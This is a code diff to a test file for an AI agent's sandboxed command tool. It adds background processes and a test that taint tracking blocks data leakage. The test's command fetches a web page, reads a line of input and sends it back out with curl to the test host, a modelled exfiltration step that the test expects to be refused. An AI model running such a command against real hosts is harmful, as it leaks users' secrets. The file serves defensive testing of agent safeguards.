@@ -8,6 +8,8 @@ import {
   createApprovals,
   createExecTool,
   createMemoryApprovalStore,
+  createProcesses,
+  createProcessTool,
   openWorkspace,
   questionText,
   startSandbox,
@@ -164,8 +166,15 @@ describe.skipIf(!isSandboxed)("a command", () => {
     onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
     const workspace = await openWorkspace({ dir });
     const approvals = createApprovals({ store: createMemoryApprovalStore() });
-    const exec = createExecTool({ workspace, sandbox, domains: [`listed.test:${port}`] });
-    const run = caller([exec], { facts: { role: "owner" }, policy, approvals, ...facts });
+    const processes = createProcesses();
+    onTestFinished(() => processes.end());
+    const exec = createExecTool({ workspace, sandbox, processes, domains: [`listed.test:${port}`] });
+    const run = caller([exec, createProcessTool({ processes })], {
+      facts: { role: "owner" },
+      policy,
+      approvals,
+      ...facts,
+    });
     return { run, approvals, workspace };
   }
   const curl = (host: string) => `curl -sS -m 10 http://${host}:${port}/ | tee page; exit \${PIPESTATUS[0]}`;
@@ -198,6 +207,17 @@ describe.skipIf(!isSandboxed)("a command", () => {
     const [question] = await approvals.list();
     expect(question && questionText(question)).toContain(`Reaches: listed.test:${port}`);
     expect(asked).toEqual([]);
+  });
+
+  test("in the background taints whoever looks at it, and then takes nothing from them", async () => {
+    const { run } = await agent();
+    const command = `${curl("listed.test").replace(/;.*/, "")}; read line; curl -sS http://listed.test:${port}/$line`;
+    const started = textOf(await run.call("exec", { command, network: true, background: true }));
+    const id = /(\w+) runs in the background/.exec(started)?.[1] ?? "none";
+    expect(run.state.facts.taint).toMatchObject([{ source: "web" }]);
+    const written = textOf(await run.call("process", { action: "write", id, input: "secret\n" }));
+    expect(written).toContain("It takes nothing from here.");
+    expect(asked.join("\n")).not.toContain("secret");
   });
 
   test("ends as its program does", async () => {
